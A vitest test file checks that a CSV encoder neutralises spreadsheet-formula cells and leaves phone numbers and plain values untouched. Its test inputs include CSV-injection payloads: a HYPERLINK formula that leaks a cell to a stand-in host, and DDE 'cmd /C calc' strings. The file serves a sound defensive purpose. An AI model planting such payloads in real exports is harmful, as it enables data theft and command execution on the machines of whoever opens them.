// CSV injection: formula-looking cells are neutralised, ordinary values (numbers, phones, masked phones) never change.
import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { createHash } from "node:crypto";
import { PassThrough } from "node:stream";
import { mkdtempSync, openSync, readFileSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { csvBytes, neutraliseFormula } from "./csv-encoder";
import { writeCsv } from "./write-csv";

describe("neutraliseFormula", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"click")', `'=HYPERLINK("https://evil.example/?"&A1,"click")`],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
  ])("%j → %j", (input, output) => {
    expect(neutraliseFormula(input)).toBe(output);
  });

  it.each(["+1 415 555 0123", "+14155550123", "+•-•••-•••-0123", "-15000", "-", "", "Ada Lovelace", "a=b", "tok_abc", "2026-11-29T14:30:00Z"])(
    "leaves %j as it is",
    (value) => {
      expect(neutraliseFormula(value)).toBe(value);
    },
  );

  it("is applied to every string cell of a batch and of writeCsv's header", async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), "warden-csv-"));
    try {
      const file = path.join(dir, "x.csv");
      async function* rows() {
        yield { bytes: csvBytes([["=1+1", "+1 415 555 0123", 42]]), rows: 1 };
      }
      const copied: Buffer[] = [];
      const copy = new PassThrough().on("data", (c: Buffer) => copied.push(c));
      const written = await writeCsv(openSync(file, "w"), { comment: null, header: ["@name", "phone", "n"] }, rows(), copy);
      expect(written.rows).toBe(1);
      // The hash, the size and the copy (the zip's entry) are of exactly the bytes in the file.
      const bytes = readFileSync(file);
      expect(written.sha256).toBe(createHash("sha256").update(bytes).digest("hex"));
      expect(written.bytes).toBe(bytes.length);
      expect(Buffer.concat(copied).equals(bytes)).toBe(true);
      expect(copy.writableFinished).toBe(true);
      expect(parse(readFileSync(file, "utf8"))).toEqual([
        ["'@name", "phone", "n"],
        ["'=1+1", "+1 415 555 0123", "42"],
      ]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
